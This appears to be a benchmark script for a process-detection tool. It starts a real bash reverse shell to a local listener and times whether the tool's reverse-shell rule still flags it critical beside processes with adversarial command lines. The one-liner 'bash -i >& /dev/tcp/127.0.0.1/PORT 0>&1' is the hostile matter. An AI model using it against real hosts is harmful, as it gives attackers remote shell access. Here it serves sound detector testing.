// No rule starves another, timed: live `detect` on a host running a real reverse shell (`bash -i >&
// /dev/tcp/127.0.0.1/PORT`), first alone, then beside processes whose argvs are written against the rules'
// patterns (test/helpers/hostile-argv.ts: the four at 1 MB each, the others at 250 KB). The
// reverse shell must be reported critical with every rule run; the hostile run's time is reported against
// the run without them, and against the 5 s a run must stay under on 2 cores.
// test/commands/detect-hostile.test.ts asserts the same outcome in `npm test`, without timing it.
import {type ChildProcess, spawn, spawnSync} from 'node:child_process';
import {mkdtempSync, rmSync} from 'node:fs';
import {createServer, type Socket} from 'node:net';
import {tmpdir} from 'node:os';
import {join} from 'node:path';

import {HOSTILE_ARGVS} from '../test/helpers/hostile-argv.js';
import {BIN, privateEnv, report, timeCommand} from './lib.js';

export const HOSTILE_TARGET_MS = 5000;
const SIZE = (index: number): number => (index < 4 ? 1_000_000 : 250_000);

function start(children: ChildProcess[], command: string, args: readonly string[]): ChildProcess {
  const child = spawn(command, args, {detached: true, stdio: 'ignore', env: {PATH: process.env.PATH ?? '/usr/bin:/bin'}});
  children.push(child);
  return child;
}

/** One detect run's outcome: the reverse shell's alert severity and the rules that did not finish. */
function outcome(env: NodeJS.ProcessEnv, pid: number): string {
  const result = spawnSync(process.execPath, [BIN, 'detect', '--format', 'json', '--quiet', '--no-audit'], {
    env,
    encoding: 'utf8',
    maxBuffer: 256 * 1024 * 1024,
  });
  const output = JSON.parse(result.stdout) as {
    alerts: {rule_id: string; severity: string; affected_processes: number[]}[];
    summary: {rules_run: number; timed_out: string[]; not_run: string[]; failed: string[]; duration_ms: number};
  };
  const alert = output.alerts.find((a) => a.rule_id === 'reverse-shell-command-line' && a.affected_processes.includes(pid));
  const {summary} = output;
  return `exit ${String(result.status)}; reverse shell ${alert === undefined ? 'NOT REPORTED' : alert.severity}; ${summary.rules_run} rules in ${summary.duration_ms} ms; timed out: ${summary.timed_out.join(', ') || 'none'}; not run: ${summary.not_run.join(', ') || 'none'}; failed: ${summary.failed.join(', ') || 'none'}`;
}

export async function run(): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'daemoneye-bench-hostile-'));
  const env = privateEnv(dir);
  const children: ChildProcess[] = [];
  const sockets: Socket[] = [];
  const server = createServer((socket) => sockets.push(socket));
  try {
    const port = await new Promise<number>((resolve) => {
      server.listen(0, '127.0.0.1', () => {
        const address = server.address();
        resolve(typeof address === 'object' && address !== null ? address.port : 0);
      });
    });
    const shell = start(children, '/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`]);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    const args = [BIN, 'detect', '--format', 'json', '--quiet', '--no-audit'];
    const alone = timeCommand('detect, reverse shell alone', process.execPath, args, {runs: 3, env, exitCodes: [0, 1, 3]});
    const aloneOutcome = outcome(env, shell.pid ?? 0);
    for (const [index, hostile] of HOSTILE_ARGVS.entries()) {
      const [program, ...rest] = hostile.argv(SIZE(index));
      start(children, program as string, rest);
    }
    await new Promise((resolve) => setTimeout(resolve, 1000));
    const beside = timeCommand(`detect, beside ${HOSTILE_ARGVS.length} hostile argvs`, process.execPath, args, {runs: 3, env, exitCodes: [0, 1, 3]});
    const besideOutcome = outcome(env, shell.pid ?? 0);
    report('detect with a reverse shell, alone and beside processes whose argvs are written against the rules', [alone, beside], alone);
    process.stdout.write(`alone: ${aloneOutcome}\nbeside: ${besideOutcome}\n`);
    process.stdout.write(
      `beside the hostile argvs: median ${beside.medianMs.toFixed(0)} ms (target under ${HOSTILE_TARGET_MS} ms on 2 cores): ${beside.medianMs < HOSTILE_TARGET_MS ? 'met' : 'MISSED'}\n`,
    );
  } finally {
    for (const socket of sockets) socket.destroy();
    server.close();
    for (const child of children) {
      try {
        // Each child leads its own process group: this also ends the shells' sleeps and the inner bash.
        if (child.pid !== undefined) process.kill(-child.pid, 'SIGKILL');
      } catch {
        // already gone
      }
    }
    rmSync(dir, {recursive: true, force: true});
  }
}
